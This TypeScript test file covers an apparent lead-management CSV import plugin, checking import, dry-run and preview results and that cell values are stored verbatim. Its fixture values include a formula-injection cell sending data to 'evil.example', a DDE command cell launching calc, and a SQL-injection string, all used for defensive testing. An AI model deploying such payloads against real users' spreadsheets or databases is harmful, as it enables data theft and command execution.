import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { createWorkspace } from '@leadnest/core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type TestServer, testServer } from '../../../server/src/testing.ts'
import { csv } from './index.ts'
import { type Case, cases, folder } from './testing/corpus.ts'

let server: TestServer
beforeAll(async () => {
  server = await testServer({ plugins: [csv()] })
})
afterAll(() => server.close())

/** A workspace of its own for each file. */
async function desk() {
  const { id } = await createWorkspace(server.nest, { name: 'Corpus' })
  const key = await server.nest.key({ workspaceId: id })
  const send = (file: string, query = '', route = 'POST /v1/imports') =>
    server.request(`${route}?name=${file}${query}`, {
      key,
      raw: readFileSync(join(folder, file)),
      headers: { 'content-type': 'text/csv' },
    })
  const leads = async () => {
    const { json } = await server.request('GET /v1/leads?limit=200', { key })
    return json.data.sort((one: { email: string }, other: { email: string }) => (one.email < other.email ? -1 : 1))
  }
  return { key, send, leads }
}

interface Fault {
  row: number
  code: string
  detail: string
}

interface Said {
  status: number
  json: Record<string, unknown> & { errors: Fault[]; error: Fault | null }
}

/** What the manifest says of a file, checked on an answer. */
function expectOutcome({ status, json }: Said, { expect: told }: Case): void {
  if (told.job === null) {
    expect({ status, code: json.code }).toEqual({ status: 422, code: told.code })
    return
  }
  expect([status, json.status]).toEqual([200, told.job === 'failed' ? 'failed' : 'succeeded'])
  if (told.job === 'failed') {
    expectFailure(json.error, told)
    expect(json).toMatchObject({ created: 0, updated: 0, skipped: 0, errors: [] })
    return
  }
  const { rows: total, imported: created, skipped = 0, failed = 0, errors = [] } = told
  expect(json).toMatchObject({ error: null, total, created, updated: 0, skipped, failed })
  expect(created + skipped + failed).toBe(total)
  expect(json.errors.map(({ row, code }) => ({ row, code }))).toEqual(errors)
}

function expectFailure(error: Fault | null, { code, at_row: row }: Case['expect']): void {
  expect(error).toMatchObject({ code, detail: expect.stringMatching(/.{10,}/s), ...(row !== undefined && { row }) })
}

describe.each(cases)('$file', (one) => {
  test('is answered as the manifest says, and again makes nobody', async () => {
    const { send, leads } = await desk()
    expectOutcome(await send(one.file), one)
    const known = await leads()
    expect(known).toHaveLength(one.expect.imported)
    const again = await send(one.file)
    expect(again.json.created ?? 0).toBe(0)
    expect((await leads()).length).toBe(known.length)
  })

  test('a dry run says the same, and makes nobody; so does the preview', async () => {
    const { send, leads } = await desk()
    expectOutcome(await send(one.file, '&dryRun=true'), one)
    const { status, json } = await send(one.file, '', 'POST /v1/imports/preview')
    const { job, code, rows: total, imported: created, skipped = 0, failed = 0, errors = [] } = one.expect
    if (job === null) expect({ status, code: json.code }).toEqual({ status: 422, code })
    else {
      const rows = json.rows as { row: number; outcome: string; error: Fault | null }[]
      const count = (wanted: string) => rows.filter(({ outcome }) => outcome === wanted).length
      expect(status).toBe(200)
      if (job === 'failed') {
        expectFailure(json.error, one.expect)
        // A file that is no table has no rows to show; of one whom nobody can be found by each is refused.
        expect(rows.map(({ outcome, error }) => [outcome, error?.code])).toEqual(
          Array.from({ length: total ?? 0 }, () => ['failed', code]),
        )
      } else {
        expect(json.error).toBe(null)
        expect([rows.length, count('created'), count('skipped'), count('failed')]).toEqual([
          total,
          created,
          skipped,
          failed,
        ])
        expect(rows.flatMap(({ row, error }) => (error ? [{ row, code: error.code }] : []))).toEqual(errors)
      }
    }
    expect(await leads()).toEqual([])
  })
})

test('what the files say is stored as it is', async () => {
  const stored = async (file: string, query = '') => {
    const { send, leads } = await desk()
    await send(file, query)
    return leads()
  }
  expect(await stored('10-windows-1252.csv', '&encoding=windows-1252')).toMatchObject([{ firstName: 'Zoë' }])
  expect(await stored('64-utf16le-no-bom.csv', '&encoding=utf-16le')).toMatchObject([{ firstName: 'Zoe' }])
  expect(await stored('07-utf16le-bom-tab.csv')).toMatchObject([{ firstName: 'Zoë 你好' }])
  expect(await stored('15-bidi-zero-width.csv')).toMatchObject([{ firstName: '\u202eevil\u202c\u200b' }])
  expect(await stored('16-quotes-newlines.csv')).toMatchObject([
    { firstName: 'He said "hi"', lastName: 'Line1\nLine2\r\nLine3' },
    { firstName: 'a,b', lastName: ';x' },
  ])
  expect(await stored('44-sql-like.csv')).toMatchObject([
    { firstName: "Robert'); DROP TABLE leads;--" },
    { firstName: '\\N' },
    { firstName: '\\.' },
    { firstName: 'NULL' },
  ])
  expect(await stored('37-formula-cells.csv')).toMatchObject([
    { firstName: '=HYPERLINK("http://evil.example/?x="&A1,"click")', lastName: '+1+1' },
    { firstName: '@SUM(1)', lastName: '=1+1' },
    { firstName: "=cmd|' /C calc'!A0", lastName: '＝1+1' },
    { firstName: '-Anne', lastName: 'plain' },
  ])
  expect(await stored('85-shielded.csv')).toMatchObject([
    { firstName: '=1+1', company: "'=1+1" },
    { firstName: "'quoted'", company: "O'Neil" },
  ])
  expect(await stored('62-single-quotes.csv')).toMatchObject([{ firstName: "O'Neil" }, { firstName: 'Bob' }])
  expect(await stored('68-german.csv')).toMatchObject([
    { name: 'Zoë Müßig', phone: '+4930901820', company: 'Müller & Söhne' },
  ])
  expect(await stored('74-quote-within-plain.csv')).toMatchObject([
    { company: '5" disks' },
    { company: 'say "hi" to us' },
  ])
})
